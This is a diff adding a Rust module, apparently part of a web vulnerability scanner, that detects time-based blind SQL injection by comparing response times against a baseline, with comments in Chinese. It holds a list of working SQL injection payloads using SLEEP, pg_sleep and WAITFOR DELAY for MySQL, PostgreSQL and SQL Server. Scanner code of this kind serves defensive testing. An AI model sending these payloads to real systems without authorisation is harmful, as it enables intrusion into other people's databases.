@@ -0,0 +1,59 @@
+/**
+ * Time-based Blind SQL Injection
+ *
+ * 沒有錯誤訊息時，只能從回應時間判斷 payload 中的 SLEEP / pg_sleep / WAITFOR 是否被執行。
+ * 一般較慢的伺服器也會讓單一請求變慢，因此以乾淨請求的中位數作為基準，
+ * 並依序送出 3 秒與 6 秒的延遲：兩次都比基準慢了約等於延遲的時間，且延遲隨 payload 增加，才視為注入成立。
+ */
+
+use std::time::Duration;
+
+/// 確認用的兩個延遲秒數，第二個必須明顯大於第一個
+pub const DELAYS_SECS: [u64; 2] = [3, 6];
+
+/// 基準的取樣次數 (取中位數)
+pub const BASELINE_SAMPLES: usize = 3;
+
+/// 整個時間盲注檢查的時間預算，目標卡住時不拖住掃描
+pub const TIME_BUDGET: Duration = Duration::from_secs(120);
+
+/// 最多測試的參數數量；每個參數至少需要基準加上兩次延遲請求
+pub const MAX_POINTS: usize = 3;
+
+/// 實際延遲至少要達到預期延遲的比例 (網路抖動與計時誤差)
+const DELAY_TOLERANCE: f64 = 0.8;
+
+/// payload 樣板與資料庫類型，{delay} 會換成延遲秒數
+pub const PAYLOADS: &[(&str, &str)] = &[
+    ("1' AND SLEEP({delay})-- -", "MySQL"),
+    ("1 AND SLEEP({delay})", "MySQL"),
+    ("1' AND 1=(SELECT 1 FROM pg_sleep({delay}))--", "PostgreSQL"),
+    ("1;SELECT pg_sleep({delay})--", "PostgreSQL"),
+    ("1'; WAITFOR DELAY '0:0:{delay}'--", "SQL Server"),
+];
+
+pub fn payload(template: &str, delay_secs: u64) -> String {
+    template.replace("{delay}", &delay_secs.to_string())
+}
+
+/// 取樣的中位數
+pub fn median(samples: &[Duration]) -> Option<Duration> {
+    let mut sorted = samples.to_vec();
+    sorted.sort();
+    sorted.get(sorted.len() / 2).copied()
+}
+
+/// 請求比基準慢了約 delay 秒
+pub fn is_delayed(baseline: Duration, elapsed: Duration, delay_secs: u64) -> bool {
+    elapsed.saturating_sub(baseline).as_secs_f64() >= delay_secs as f64 * DELAY_TOLERANCE
+}
+
+/// 兩次延遲都成立，且第二次的延遲比第一次多出約兩者的差距 (延遲隨 payload 增加)
+pub fn confirms(baseline: Duration, timings: &[(u64, Duration)]) -> bool {
+    let [(short_delay, short), (long_delay, long)] = timings else {
+        return false;
+    };
+    is_delayed(baseline, *short, *short_delay)
+        && is_delayed(baseline, *long, *long_delay)
+        && is_delayed(*short, *long, long_delay - short_delay)
+}